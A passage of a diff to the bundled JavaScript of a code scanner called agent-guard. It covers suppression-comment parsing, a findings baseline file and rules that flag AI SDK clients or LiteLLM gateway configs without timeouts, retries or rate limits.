       const target = realpathOrNull(absPath);
       if (target === null) continue;
       const inside = toPosix(relative(root.root, target));
-      if (inside.startsWith("..") || isAbsolute(inside)) skipped.push({ path, reason: `symlink leaves the repository (points to ${target})` });
+      if (inside.startsWith("..") || isAbsolute(inside)) skipped.push({ path: path2, reason: `symlink leaves the repository (points to ${target})` });
       continue;
     }
     if (!st.isFile()) continue;
-    files.push({ path, absPath });
+    files.push({ path: path2, absPath });
   }
   return { files, skipped };
 }
@@ -20642,18 +22666,18 @@ var EXTENSION_LANGUAGES = {
   md: "markdown",
   mdx: "markdown"
 };
-function languageOf(path) {
-  const base = path.slice(path.lastIndexOf("/") + 1).toLowerCase();
+function languageOf(path2) {
+  const base = path2.slice(path2.lastIndexOf("/") + 1).toLowerCase();
   if (base === ".env" || base.startsWith(".env.") || base.endsWith(".env")) return "dotenv";
   const dot = base.lastIndexOf(".");
   if (dot <= 0) return "other";
   return EXTENSION_LANGUAGES[base.slice(dot + 1)] ?? "other";
 }
 var SourceFile = class {
-  constructor(path, text, language) {
-    this.path = path;
+  constructor(path2, text, language) {
+    this.path = path2;
     this.text = text;
-    this.language = language ?? languageOf(path);
+    this.language = language ?? languageOf(path2);
   }
   path;
   text;
@@ -20680,7 +22704,7 @@ function formatBytes(n) {
   if (n >= 1024) return `${(n / 1024).toFixed(1)} KiB`;
   return `${n} B`;
 }
-function decodeText(path, bytes, maxFileSize) {
+function decodeText(path2, bytes, maxFileSize) {
   if (bytes.length > maxFileSize) return { skipped: `larger than the size cap (${formatBytes(bytes.length)} > ${formatBytes(maxFileSize)}; raise maxFileSize to scan it)` };
   const head = bytes.subarray(0, 8e3);
   if (head.includes(0)) return { skipped: "binary file" };
@@ -20691,16 +22715,16 @@ function decodeText(path, bytes, maxFileSize) {
     return { skipped: "not valid UTF-8 text" };
   }
   if (text.charCodeAt(0) === 65279) text = text.slice(1);
-  return { file: new SourceFile(path, text) };
+  return { file: new SourceFile(path2, text) };
 }
-async function readSource(path, absPath, maxFileSize) {
+async function readSource(path2, absPath, maxFileSize) {
   let handle2;
   try {
     handle2 = await open(absPath, "r");
     const st = await handle2.stat();
     if (st.size > maxFileSize) return { skipped: `larger than the size cap (${formatBytes(st.size)} > ${formatBytes(maxFileSize)}; raise maxFileSize to scan it)` };
     const bytes = await handle2.readFile();
-    return decodeText(path, bytes, maxFileSize);
+    return decodeText(path2, bytes, maxFileSize);
   } catch (err2) {
     return { skipped: `unreadable (${err2.code ?? "error"})` };
   } finally {
@@ -20724,23 +22748,32 @@ function sha256(text) {
 
 // src/core/suppress.ts
 var import_picomatch = __toESM(require_picomatch2(), 1);
-var MARKER = /agent-guard-ignore\s+([a-z0-9*][a-z0-9*/,\s-]*?)\s*(?::\s*(.*?))?\s*(?:\*\/|-->)?\s*$/;
+var RULE_LIST = /^\s+([a-z0-9*][a-z0-9*/-]*(?:\s*,\s*[a-z0-9*][a-z0-9*/-]*)*)/;
+var TRAILER = /(?:\s+|\*\/\}?|-->|#\}|%\}|%>|\\n"?,?|\\r|"\s*,?)$/;
 function parseSuppression(lineText, line) {
   const idx = lineText.indexOf("agent-guard-ignore");
   if (idx < 0) return null;
-  const m = MARKER.exec(lineText.slice(idx));
+  const rest = lineText.slice(idx + "agent-guard-ignore".length);
+  const m = RULE_LIST.exec(rest);
   if (!m) return null;
-  const rules = m[1].split(",").map((s) => s.trim()).filter(Boolean);
-  return { rules, reason: (m[2] ?? "").trim(), line };
+  const rules2 = m[1].split(",").map((s) => s.trim().replace(/-+$/, "")).filter(Boolean);
+  const after = rest.slice(m[0].length);
+  const colon = /^\s*:/.exec(after);
+  let reason = colon ? after.slice(colon[0].length) : "";
+  for (let prev = ""; prev !== reason; ) {
+    prev = reason;
+    reason = reason.replace(TRAILER, "");
+  }
+  return { rules: rules2, reason: reason.trim(), line };
 }
-function matches(rule, ruleId) {
-  return rule === "*" || rule === ruleId || rule.endsWith("/*") && ruleId.startsWith(rule.slice(0, -1));
+function matches(rule2, ruleId) {
+  return rule2 === "*" || rule2 === ruleId || rule2.endsWith("/*") && ruleId.startsWith(rule2.slice(0, -1));
 }
 function inlineSuppressionFor(file, finding) {
   for (const line of [finding.range.startLine, finding.range.startLine - 1]) {
     if (line < 1) continue;
     const s = parseSuppression(file.lineText(line), line);
-    if (s && s.rules.some((r) => matches(r, finding.ruleId))) return s;
+    if (s && s.rules.some((r2) => matches(r2, finding.ruleId))) return s;
   }
   return null;
 }
@@ -20756,6 +22789,7 @@ var ConfigIgnores = class {
 
 // src/core/types.ts
 var SEVERITY_RANK = { error: 3, warning: 2, note: 1 };
+var FAMILIES = ["secret", "tool-input", "rate-limit", "tool-payload"];
 var DOCS_BASE_URL = "https://github.com/org/agent-guard/blob/main/docs/rules";
 function docsUrl(ruleId) {
   return `${DOCS_BASE_URL}/${ruleId}.md`;
@@ -20766,7 +22800,7 @@ function workingTreeView(root, config, listAll) {
   let paths;
   return {
     allPaths: async () => paths ??= listAll(),
-    read: async (path) => readSource(path, `${root}/${path}`, config.maxFileSize)
+    read: async (path2) => readSource(path2, `${root}/${path2}`, config.maxFileSize)
   };
 }
 function workingTreeInput(root, paths, config) {
@@ -20785,20 +22819,20 @@ function fileFilter(config) {
   const exclude = config.exclude.length ? (0, import_picomatch2.default)(config.exclude, { dot: true }) : () => false;
   return (p) => include(p) && !exclude(p);
 }
-function loadRootAndConfig(paths, rules, configFile) {
+function loadRootAndConfig(paths, rules2, configFile) {
   const root = findRoot(paths[0] ?? ".");
-  const config = loadConfig({ configFile, root: root.root, rules: rules.map((r) => r.meta) });
+  const config = loadConfig({ configFile, root: root.root, rules: rules2.map((r2) => r2.meta) });
   return { root, config };
 }
-function activeRules(rules, config) {
+function activeRules(rules2, config) {
   const out2 = [];
-  for (const rule of rules) {
-    const setting = config.rules[rule.meta.id];
+  for (const rule2 of rules2) {
+    const setting = config.rules[rule2.meta.id];
     if (setting?.severity === "off") continue;
     out2.push({
-      rule,
-      severity: setting?.severity ?? rule.meta.severity,
-      options: { ...rule.meta.defaultOptions ?? {}, ...setting?.options ?? {} }
+      rule: rule2,
+      severity: setting?.severity ?? rule2.meta.severity,
+      options: { ...rule2.meta.defaultOptions ?? {}, ...setting?.options ?? {} }
     });
   }
   return out2;
@@ -20827,25 +22861,25 @@ async function mapLimit(items, limit, fn) {
   });
   await Promise.all(workers);
 }
-function toFinding(meta, severity, path, report, lineText) {
-  let message = formatMessage(meta.messages[report.messageId] ?? report.messageId, report.data);
-  if (report.secret) {
-    globalRedactor.add(report.secret);
-    message = message.split(report.secret).join(maskSecret(report.secret));
+function toFinding(meta9, severity, path2, report3, lineText) {
+  let message = formatMessage(meta9.messages[report3.messageId] ?? report3.messageId, report3.data);
+  if (report3.secret) {
+    globalRedactor.add(report3.secret);
+    message = message.split(report3.secret).join(maskSecret(report3.secret));
   }
-  const content = report.fingerprintHint ?? (report.secret ? `secret:${sha256(report.secret)}` : normaliseLine(lineText));
+  const content = report3.fingerprintHint ?? (report3.secret ? `secret:${sha256(report3.secret)}` : normaliseLine(lineText));
   return {
-    ruleId: meta.id,
-    family: meta.family,
-    severity: report.severity ?? severity,
+    ruleId: meta9.id,
+    family: meta9.family,
+    severity: report3.severity ?? severity,
     message,
-    path: report.path ?? path,
-    range: report.range,
-    related: report.related ?? [],
-    flow: report.flow ?? [],
-    fix: meta.fix,
-    helpUri: docsUrl(meta.id),
-    ...report.properties ? { properties: report.properties } : {},
+    path: report3.path ?? path2,
+    range: report3.range,
+    related: report3.related ?? [],
+    flow: report3.flow ?? [],
+    fix: meta9.fix,
+    helpUri: docsUrl(meta9.id),
+    ...report3.properties ? { properties: report3.properties } : {},
     fingerprintContent: content
   };
 }
@@ -20872,18 +22906,21 @@ async function scan(options) {
   const input = options.input ? await options.input(root, config) : workingTreeInput(root, options.paths.length ? options.paths : [root.root], config);
   return runRules(input, config, options.rules, started);
 }
-async function runRules(input, config, rules, started = performance.now()) {
-  const active = activeRules(rules, config);
+function sortNotices(list2) {
+  return list2.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0) || (a.line ?? 0) - (b.line ?? 0) || (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+async function runRules(input, config, rules2, started = performance.now()) {
+  const active = activeRules(rules2, config);
   const fileCache = /* @__PURE__ */ new Map();
   const project = {
     root: input.root.root,
     config,
     allPaths: () => input.repository.allPaths(),
-    getFile: (path) => {
-      let p = fileCache.get(path);
+    getFile: (path2) => {
+      let p = fileCache.get(path2);
       if (!p) {
-        p = input.repository.read(path).then((r) => r && "file" in r ? r.file : null);
-        fileCache.set(path, p);
+        p = input.repository.read(path2).then((r2) => r2 && "file" in r2 ? r2.file : null);
+        fileCache.set(path2, p);
       }
       return p;
     },
@@ -20892,6 +22929,7 @@ async function runRules(input, config, rules, started = performance.now()) {
   const pending = [];
   const skipped = [...input.skipped];
   const ruleErrors = [];
+  const notices = /* @__PURE__ */ new Map();
   const ignores = new ConfigIgnores(config.ignore);
   let suppressed = 0;
   let files = 0;
@@ -20910,28 +22948,36 @@ async function runRules(input, config, rules, started = performance.now()) {
     let parsed;
     const memo = memoTable();
     const fileFindings = [];
-    for (const { rule, severity, options: ruleOptions } of applicable) {
+    for (const { rule: rule2, severity, options: ruleOptions } of applicable) {
       const context = {
         file,
         project,
         options: ruleOptions,
         tree: () => parsed ??= parseCode(file.language, file.text),
         memo,
-        report: (report) => {
-          fileFindings.push(toFinding(rule.meta, severity, file.path, report, file.lineText(report.range.startLine)));
+        report: (report3) => {
+          fileFindings.push(toFinding(rule2.meta, severity, file.path, report3, file.lineText(report3.range.startLine)));
         }
       };
       try {
-        await rule.check(context);
+        await rule2.check(context);
       } catch (err2) {
-        ruleErrors.push({ path: file.path, reason: `rule ${rule.meta.id} failed: ${err2.message?.split("\n")[0] ?? String(err2)}` });
+        ruleErrors.push({ path: file.path, reason: `rule ${rule2.meta.id} failed: ${err2.message?.split("\n")[0] ?? String(err2)}` });
       }
     }
     if (parsed) (await parsed)?.tree.delete();
     for (const f of fileFindings) {
       const sameFile = f.path === file.path;
-      if (sameFile && inlineSuppressionFor(file, f) || ignores.covers(f)) {
+      const inline = sameFile ? inlineSuppressionFor(file, f) : null;
+      if (inline || ignores.covers(f)) {
         suppressed++;
+        if (inline && !inline.reason) {
+          notices.set(`${file.path}\0${inline.line}`, {
+            path: file.path,
+            line: inline.line,
+            message: `agent-guard-ignore ${inline.rules.join(", ")} has no reason: write "agent-guard-ignore <rule-id>: <why this is safe>"`
+          });
+        }
         continue;
       }
       pending.push(f);
@@ -20946,9 +22992,1369 @@ async function runRules(input, config, rules, started = performance.now()) {
     ruleErrors,
     rules: active.map((a) => ({ ...a.rule.meta, severity: a.severity })),
     suppressed,
-    stats: { files, bytes, durationMs: Math.round(performance.now() - started) }
+    stats: { files, bytes, durationMs: Math.round(performance.now() - started) },
+    ...notices.size ? { notices: sortNotices([...notices.values()]) } : {}
   };
 }
+
+// src/core/baseline.ts
+var BASELINE_FILE = ".agent-guard-baseline.json";
+var BASELINE_VERSION = 1;
+function compareEntries(a, b) {
+  const key = (e) => [e.path, e.ruleId, e.fingerprint];
+  const [ka, kb] = [key(a), key(b)];
+  for (let i2 = 0; i2 < ka.length; i2++) if (ka[i2] !== kb[i2]) return ka[i2] < kb[i2] ? -1 : 1;
+  return 0;
+}
+function baselineFromFindings(findings) {
+  const seen = /* @__PURE__ */ new Set();
+  const entries = [];
+  for (const f of findings) {
+    if (seen.has(f.fingerprint)) continue;
+    seen.add(f.fingerprint);
+    entries.push({ fingerprint: f.fingerprint, ruleId: f.ruleId, path: f.path, message: f.message });
+  }
+  return { version: BASELINE_VERSION, entries: entries.sort(compareEntries) };
+}
+function serialiseBaseline(baseline) {
+  const lines = baseline.entries.map((e) => `    ${JSON.stringify({ fingerprint: e.fingerprint, ruleId: e.ruleId, path: e.path, message: e.message })}`);
+  return `{
+  "version": ${baseline.version},
+  "tool": "agent-guard",
+  "findings": [${lines.length ? `
+${lines.join(",\n")}
+  ` : ""}]
+}
+`;
+}
+function parseBaseline(text, source) {
+  const bad = (why) => {
+    throw new UsageError(`baseline ${source} is corrupt: ${why} (regenerate it with "agent-guard baseline")`);
+  };
+  if (/^(<{7}|>{7}|={7})( |$)/m.test(text)) bad("it contains merge-conflict markers; resolve them, or regenerate it");
+  let doc;
+  try {
+    doc = JSON.parse(text);
+  } catch (err2) {
+    bad(`not valid JSON (${err2.message})`);
+  }
+  if (typeof doc !== "object" || doc === null || Array.isArray(doc)) bad("expected a JSON object");
+  const obj = doc;
+  if (obj.version !== BASELINE_VERSION) bad(`key "version": expected ${BASELINE_VERSION}, found ${JSON.stringify(obj.version)}`);
+  if (!Array.isArray(obj.findings)) bad('key "findings": expected an array');
+  const entries = [];
+  obj.findings.forEach((item, i2) => {
+    const where2 = `findings[${i2}]`;
+    if (typeof item !== "object" || item === null || Array.isArray(item)) bad(`${where2}: expected an object`);
+    const e = item;
+    if (typeof e.fingerprint !== "string" || !/^[0-9a-f]{32}$/.test(e.fingerprint)) bad(`${where2}.fingerprint: expected 32 hexadecimal digits`);
+    if (typeof e.ruleId !== "string" || !/^[a-z0-9-]+\/[a-z0-9-]+$/.test(e.ruleId)) bad(`${where2}.ruleId: expected a rule id like secret/openai-api-key`);
+    if (typeof e.path !== "string" || !e.path) bad(`${where2}.path: expected a root-relative path`);
+    if (e.message !== void 0 && typeof e.message !== "string") bad(`${where2}.message: expected a string`);
+    entries.push({ fingerprint: e.fingerprint, ruleId: e.ruleId, path: e.path, message: e.message ?? "" });
+  });
+  return { version: BASELINE_VERSION, entries };
+}
+function loadBaseline(path2) {
+  let text;
+  try {
+    text = readFileSync2(path2, "utf8");
+  } catch (err2) {
+    const code2 = err2.code;
+    throw new UsageError(code2 === "ENOENT" ? `baseline ${path2} not found (create it with "agent-guard baseline")` : `cannot read baseline ${path2}: ${code2 ?? err2.message}`);
+  }
+  return parseBaseline(text, path2);
+}
+function writeBaseline(path2, findings) {
+  const baseline = baselineFromFindings(findings);
+  const target = resolve2(path2);
+  const tmp = join4(dirname2(target), `.${basename2(target)}.${process.pid}.${randomBytes(4).toString("hex")}.tmp`);
+  try {
+    writeFileSync(tmp, globalRedactor.redact(serialiseBaseline(baseline)));
+    renameSync(tmp, target);
+  } catch (err2) {
+    rmSync(tmp, { force: true });
+    throw new UsageError(`cannot write baseline ${path2}: ${err2.code ?? err2.message}`);
+  }
+  return baseline;
+}
+function applyBaseline(result, baseline, scope = {}) {
+  const known = new Set(baseline.entries.map((e) => e.fingerprint));
+  const matched = /* @__PURE__ */ new Set();
+  const findings = result.findings.filter((f) => {
+    if (!known.has(f.fingerprint)) return true;
+    matched.add(f.fingerprint);
+    return false;
+  });
+  const scanned = scope.scannedPaths ? new Set(scope.scannedPaths) : null;
+  const skipped = new Set(result.skipped.map((s) => s.path));
+  const ran = new Set(result.rules.map((r2) => r2.id));
+  const stale = baseline.entries.filter((e) => !matched.has(e.fingerprint) && ran.has(e.ruleId) && !skipped.has(e.path) && (!scanned || scanned.has(e.path)));
+  const notices = stale.map((e) => ({
+    path: e.path,
+    message: `baseline entry ${e.fingerprint.slice(0, 12)} (${e.ruleId}) no longer matches a finding: run "agent-guard baseline" to drop it`
+  }));
+  const baselined = result.findings.length - findings.length;
+  const allNotices = [...result.notices ?? [], ...notices];
+  return {
+    result: {
+      ...result,
+      findings,
+      suppressed: result.suppressed + baselined,
+      ...allNotices.length ? { notices: sortNotices(allNotices) } : {}
+    },
+    baselined,
+    stale
+  };
+}
+
+// src/ratelimit/options.ts
+function compileExtraPatterns(patterns) {
+  if (!Array.isArray(patterns)) return [];
+  const out2 = [];
+  for (const p of patterns) {
+    if (typeof p !== "string") continue;
+    try {
+      out2.push(new RegExp(p));
+    } catch {
+    }
+  }
+  return out2;
+}
+function shorten(text, max = 40) {
+  const one = text.replace(/\s+/g, " ").trim();
+  return one.length > max ? `${one.slice(0, max - 1)}\u2026` : one;
+}
+function numberOption(options, key, fallback) {
+  const v = options[key];
+  return typeof v === "number" && Number.isFinite(v) ? v : fallback;
+}
+
+// src/ratelimit/syntax.ts
+function langOf(language) {
+  return language === "python" ? "python" : "js";
+}
+function* descendants(root, skip) {
+  const stack = [...root.namedChildren].filter((c) => !!c).reverse();
+  while (stack.length) {
+    const n = stack.pop();
+    yield n;
+    if (skip?.(n)) continue;
+    const kids = n.namedChildren;
+    for (let i2 = kids.length - 1; i2 >= 0; i2--) {
+      const k = kids[i2];
+      if (k) stack.push(k);
+    }
+  }
+}
+var PY_FUNCTION = /* @__PURE__ */ new Set(["function_definition", "lambda"]);
+var JS_FUNCTION = /* @__PURE__ */ new Set(["function_declaration", "function_expression", "function", "arrow_function", "method_definition", "generator_function_declaration", "generator_function"]);
+function isFunctionNode(n, lang) {
+  return (lang === "python" ? PY_FUNCTION : JS_FUNCTION).has(n.type);
+}
+function callsIn(root, lang, intoFunctions = false) {
+  const callType = lang === "python" ? "call" : "call_expression";
+  const out2 = [];
+  if (root.type === callType || root.type === "new_expression") out2.push(root);
+  for (const n of descendants(root, intoFunctions ? void 0 : (x) => isFunctionNode(x, lang))) {
+    if (n.type === callType || lang === "js" && n.type === "new_expression") out2.push(n);
+  }
+  return out2;
+}
+function calleeText(call) {
+  const fn = call.childForFieldName("function") ?? call.childForFieldName("constructor");
+  if (!fn) return "";
+  return fn.text.replace(/\s+/g, "").replace(/\?\./g, ".").replace(/!\./g, ".");
+}
+function argList(call) {
+  const args2 = call.childForFieldName("arguments");
+  return args2 ? args2.namedChildren.filter((c) => !!c && c.type !== "comment") : [];
+}
+function pyKwargs(call) {
+  const out2 = /* @__PURE__ */ new Map();
+  for (const a of argList(call)) {
+    if (a.type !== "keyword_argument") continue;
+    const name2 = a.childForFieldName("name");
+    const value = a.childForFieldName("value");
+    if (name2 && value) out2.set(name2.text, { node: a, value });
+  }
+  return out2;
+}
+function pyPositional(call) {
+  return argList(call).filter((a) => a.type !== "keyword_argument" && a.type !== "dictionary_splat" && a.type !== "list_splat");
+}
+function pyHasDictSplat(call) {
+  return argList(call).some((a) => a.type === "dictionary_splat");
+}
+function jsObjectProps(obj) {
+  const out2 = /* @__PURE__ */ new Map();
+  if (!obj || obj.type !== "object") return out2;
+  for (const p of obj.namedChildren) {
+    if (!p) continue;
+    if (p.type === "pair") {
+      const k = p.childForFieldName("key");
+      const v = p.childForFieldName("value");
+      if (k && v) out2.set(stripQuotes(k.text), { node: p, value: v });
+    } else if (p.type === "shorthand_property_identifier") {
+      out2.set(p.text, { node: p, value: p });
+    }
+  }
+  return out2;
+}
+function stripQuotes(s) {
+  return s.replace(/^[rbuf]*(['"]{1,3})([\s\S]*)\1$/i, "$2").replace(/^`([\s\S]*)`$/, "$1");
+}
+function unwrap(n) {
+  let cur = n;
+  for (; ; ) {
+    if ((cur.type === "parenthesized_expression" || cur.type === "await" || cur.type === "await_expression" || cur.type === "as_expression" || cur.type === "satisfies_expression" || cur.type === "non_null_expression") && cur.namedChildren[0]) {
+      cur = cur.namedChildren[0];
+      continue;
+    }
+    return cur;
+  }
+}
+function enclosingScope(n, lang) {
+  let cur = n.parent;
+  while (cur) {
+    if (isFunctionNode(cur, lang) || cur.type === "module" || cur.type === "program") return cur;
+    cur = cur.parent;
+  }
+  return n;
+}
+function rootOf(n) {
+  let cur = n;
+  while (cur.parent) cur = cur.parent;
+  return cur;
+}
+function assignmentsIn(scope, name2, lang) {
+  const out2 = [];
+  const body2 = lang === "python" && scope.type === "function_definition" ? scope.childForFieldName("body") : scope;
+  if (!body2) return out2;
+  for (const n of descendants(body2, (x) => isFunctionNode(x, lang) || x.type === "class_definition" || x.type === "class_declaration")) {
+    if (lang === "python") {
+      if (n.type === "assignment") {
+        const left = n.childForFieldName("left");
+        const right = n.childForFieldName("right");
+        if (left?.type === "identifier" && left.text === name2 && right) out2.push({ target: left, value: right });
+      }
+    } else if (n.type === "variable_declarator") {
+      const left = n.childForFieldName("name");
+      const right = n.childForFieldName("value");
+      if (left?.type === "identifier" && left.text === name2 && right) out2.push({ target: left, value: right });
+    } else if (n.type === "assignment_expression") {
+      const left = n.childForFieldName("left");
+      const right = n.childForFieldName("right");
+      if (left?.type === "identifier" && left.text === name2 && right) out2.push({ target: left, value: right });
+    }
+  }
+  return out2;
+}
+function resolveName(name2, at2, lang) {
+  let scope = enclosingScope(at2, lang);
+  while (scope) {
+    const found = assignmentsIn(scope, name2, lang);
+    if (found.length) {
+      const before = found.filter((f) => f.target.startIndex < at2.startIndex);
+      const pick = before.length ? before[before.length - 1] : found[found.length - 1];
+      return pick.value;
+    }
+    if (scope.type === "module" || scope.type === "program") break;
+    if (hasParameter(scope, name2, lang)) return null;
+    scope = enclosingScope(scope, lang);
+  }
+  return null;
+}
+function hasParameter(fn, name2, lang) {
+  const params = fn.childForFieldName("parameters") ?? (lang === "js" ? fn.childForFieldName("parameter") : null);
+  if (!params) return false;
+  if (params.type === "identifier") return params.text === name2;
+  return [...descendants(params)].some((d) => d.type === "identifier" && d.text === name2);
+}
+function findLocalFunction(anyNode, name2, lang) {
+  const root = rootOf(anyNode);
+  for (const n of descendants(root)) {
+    if (lang === "python") {
+      if (n.type === "function_definition" && n.childForFieldName("name")?.text === name2) return n;
+    } else {
+      if ((n.type === "function_declaration" || n.type === "generator_function_declaration" || n.type === "method_definition") && n.childForFieldName("name")?.text === name2) return n;
+      if (n.type === "variable_declarator" && n.childForFieldName("name")?.text === name2) {
+        const v = n.childForFieldName("value");
+        if (v && (v.type === "arrow_function" || v.type === "function_expression" || v.type === "function")) return v;
+      }
+      if (n.type === "public_field_definition" && n.childForFieldName("name")?.text === name2) {
+        const v = n.childForFieldName("value");
+        if (v && (v.type === "arrow_function" || v.type === "function_expression")) return v;
+      }
+    }
+  }
+  return null;
+}
+function functionBody(fn) {
+  return fn.childForFieldName("body");
+}
+function numericValue(n) {
+  const u = unwrap(n);
+  const t = u.text.replace(/\s+/g, "");
+  if (u.type === "integer" || u.type === "float" || u.type === "number") {
+    const v = Number(t.replace(/_/g, ""));
+    return Number.isFinite(v) ? v : null;
+  }
+  if (/^(float\(['"](inf|infinity)['"]\)|math\.inf|sys\.maxsize|numpy\.inf|np\.inf|Infinity|Number\.(POSITIVE_INFINITY|MAX_SAFE_INTEGER|MAX_VALUE))$/i.test(t)) return Infinity;
+  if (u.type === "unary_operator" || u.type === "unary_expression") return null;
+  if (u.type === "binary_operator" || u.type === "binary_expression") {
+    const l = u.childForFieldName("left");
+    const r2 = u.childForFieldName("right");
+    const op = u.childForFieldName("operator")?.text;
+    const a = l ? numericValue(l) : null;
+    const b = r2 ? numericValue(r2) : null;
+    if (a === null || b === null) return null;
+    if (op === "*") return a * b;
+    if (op === "+") return a + b;
+    if (op === "**") return a ** b;
+  }
+  return null;
+}
+function isNoneLike(n) {
+  const u = unwrap(n);
+  return u.type === "none" || u.type === "null" || u.type === "undefined" || u.text === "None" || u.text === "null" || u.text === "undefined";
+}
+function importedModules(text) {
+  const out2 = /* @__PURE__ */ new Set();
+  for (const m of text.matchAll(/^\s*(?:from\s+([\w.]+)\s+import|import\s+([\w.]+))/gm)) out2.add(m[1] ?? m[2]);
+  for (const m of text.matchAll(/(?:from\s+|require\(\s*|import\(\s*|import\s+)['"]([^'"]+)['"]/g)) out2.add(m[1]);
+  return out2;
+}
+function importsAny(text, prefixes) {
+  for (const m of importedModules(text)) {
+    if (prefixes.some((p) => m === p || m.startsWith(p + ".") || m.startsWith(p + "/"))) return true;
+  }
+  return false;
+}
+function importedAs(text, module2, names) {
+  const out2 = /* @__PURE__ */ new Set();
+  const mod = module2.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
+  const py = new RegExp(`^\\s*from\\s+${mod}(?:\\.[\\w.]+)?\\s+import\\s+\\(?([^)\\n]*(?:\\n[^)\\n]*)*?)\\)?\\s*$`, "gm");
+  for (const m of text.matchAll(py)) {
+    for (const part of m[1].split(",")) {
+      const [orig, alias] = part.trim().split(/\s+as\s+/);
+      if (names.includes(orig?.trim())) out2.add((alias ?? orig).trim());
+    }
+  }
+  if (new RegExp(`^\\s*import\\s+${mod}\\s*$`, "m").test(text)) for (const n of names) out2.add(`${module2}.${n}`);
+  const js = new RegExp(`import\\s*(?:type\\s+)?\\{([^}]*)\\}\\s*from\\s*['"]${mod}(?:/[^'"]*)?['"]`, "g");
+  for (const m of text.matchAll(js)) {
+    for (const part of m[1].split(",")) {
+      const [orig, alias] = part.trim().split(/\s+as\s+/);
+      if (names.includes(orig?.trim())) out2.add((alias ?? orig).trim());
+    }
+  }
+  return out2;
+}
+
+// src/rules/rate-limit/client-without-timeout.ts
+var ID = "rate-limit/client-without-timeout";
+var CLIENTS = /^(openai\.|anthropic\.)?(Async)?(OpenAI|AzureOpenAI|Anthropic|AnthropicBedrock|AnthropicVertex|AnthropicFoundry)$/;
+var clientWithoutTimeout = {
+  meta: {
+    id: ID,
+    family: "rate-limit",
+    severity: "warning",
+    description: "OpenAI / Anthropic SDK clients created (or re-optioned with with_options / withOptions) with the request timeout removed (`timeout=None`, `httpx.Timeout(None)`, `timeout: Infinity`), above a configurable maximum, or with retries disabled (`max_retries=0`).",
+    fix: "Keep a finite request timeout (the SDK default is 10 minutes) and the default retries with backoff.",
+    messages: {
+      noTimeout: "{{client}} is created with `{{param}}` removed ({{value}}): a hung request holds the agent forever; pass a finite `{{param}}` (seconds{{unit}})",
+      longTimeout: "{{client}} has `{{param}}` = {{value}}, above the maximum of {{max}} s: lower `{{param}}`",
+      noRetries: "{{client}} is created with `{{param}}=0`: rate-limit (429) and overload responses fail instead of backing off; keep `{{param}}` at 2 or more"
+    },
+    defaultOptions: { maxTimeoutSeconds: 900, flagRetriesDisabled: true },
+    optionsSchema: {
+      properties: {
+        maxTimeoutSeconds: { type: "number", minimum: 1, description: "Highest accepted client timeout, in seconds (JS values are milliseconds and are converted)." },
+        flagRetriesDisabled: { type: "boolean", description: "Report max_retries=0 / maxRetries: 0." }
+      }
+    }
+  },
+  appliesTo: (file) => file.isCode && /OpenAI|Anthropic/.test(file.text) && /timeout|max_retries|maxRetries/i.test(file.text),
+  async check(ctx) {
+    const parsed = await ctx.tree();
+    if (!parsed) return;
+    const lang = langOf(parsed.language);
+    const opts = { maxTimeoutSeconds: numberOption(ctx.options, "maxTimeoutSeconds", 900), flagRetriesDisabled: ctx.options.flagRetriesDisabled !== false };
+    const clientVars = /* @__PURE__ */ new Set();
+    for (const n of descendants(parsed.root)) {
+      const isCall = n.type === "call" || n.type === "call_expression" || n.type === "new_expression";
+      if (!isCall) continue;
+      const callee = calleeText(n);
+      if (CLIENTS.test(callee)) {
+        const name2 = bindingName(n);
+        if (name2) clientVars.add(name2);
+        checkOptions(ctx, n, lang, callee.replace(/^(openai|anthropic)\./, "") + "(...)", opts);
+      } else if (/\.(with_options|withOptions)$/.test(callee)) {
+        const recv = callee.slice(0, callee.lastIndexOf("."));
+        if (clientVars.has(recv) || /client|openai|anthropic|claude|llm/i.test(recv)) checkOptions(ctx, n, lang, `${recv}.${callee.slice(callee.lastIndexOf(".") + 1)}(...)`, opts);
+      }
+    }
+  }
+};
+function bindingName(call) {
+  const p = call.parent?.type === "await_expression" ? call.parent.parent : call.parent;
+  if (p?.type === "assignment") return p.childForFieldName("left")?.text ?? null;
+  if (p?.type === "variable_declarator") return p.childForFieldName("name")?.text ?? null;
+  return null;
+}
+function checkOptions(ctx, call, lang, client, opts) {
+  let timeout;
+  let retries;
+  if (lang === "python") {
+    const kw = pyKwargs(call);
+    timeout = kw.get("timeout");
+    retries = kw.get("max_retries");
+  } else {
+    const first = argList(call)[0];
+    const props = jsObjectProps(first ? unwrap(first) : null);
+    timeout = props.get("timeout");
+    retries = props.get("maxRetries");
+  }
+  const param = lang === "python" ? "timeout" : "timeout";
+  if (timeout && timeout.value !== timeout.node) {
+    const v = unwrap(timeout.value);
+    const unit = lang === "python" ? " or an httpx.Timeout" : "; milliseconds in the JS SDK";
+    if (isNoneLike(v) || lang === "python" && /^httpx\.Timeout\(\s*(None|timeout\s*=\s*None)\s*\)$/.test(v.text.replace(/\s+/g, " "))) {
+      report(ctx, timeout.node, "noTimeout", { client, param, value: v.text, unit });
+    } else {
+      const n = numericValue(v);
+      if (n === Infinity) report(ctx, timeout.node, "noTimeout", { client, param, value: v.text, unit });
+      else if (n !== null) {
+        const seconds = lang === "python" ? n : n / 1e3;
+        if (seconds > opts.maxTimeoutSeconds) report(ctx, timeout.node, "longTimeout", { client, param, value: v.text, max: opts.maxTimeoutSeconds });
+      }
+    }
+  }
+  if (opts.flagRetriesDisabled && retries && retries.value !== retries.node) {
+    const n = numericValue(retries.value);
+    if (n === 0) report(ctx, retries.node, "noRetries", { client, param: lang === "python" ? "max_retries" : "maxRetries" });
+  }
+}
+function report(ctx, node, messageId, data) {
+  ctx.report({ messageId, data, range: ctx.file.rangeOf(node.startIndex, node.endIndex) });
+}
+
+// src/rules/rate-limit/gateway-without-limits.ts
+var import_yaml2 = __toESM(require_dist(), 1);
+var ID2 = "rate-limit/gateway-without-limits";
+var GLOBAL_LIMIT_KEY = /^(default_)?max_parallel_requests$|^global_max_parallel_requests$|^(default_)?(rpm|tpm)(_limit)?$/;
+var GLOBAL_SECTIONS = ["router_settings", "litellm_settings", "general_settings"];
+var ENTRY_LIMIT_KEY = /^(rpm|tpm|max_parallel_requests)$/;
+var gatewayWithoutLimits = {
+  meta: {
+    id: ID2,
+    family: "rate-limit",
+    severity: "warning",
+    description: "LiteLLM proxy configs whose model_list entries have neither rpm nor tpm while no router or proxy-wide limit is set, and (as a note) CrewAI agents with no max_rpm on the agent or its crew.",
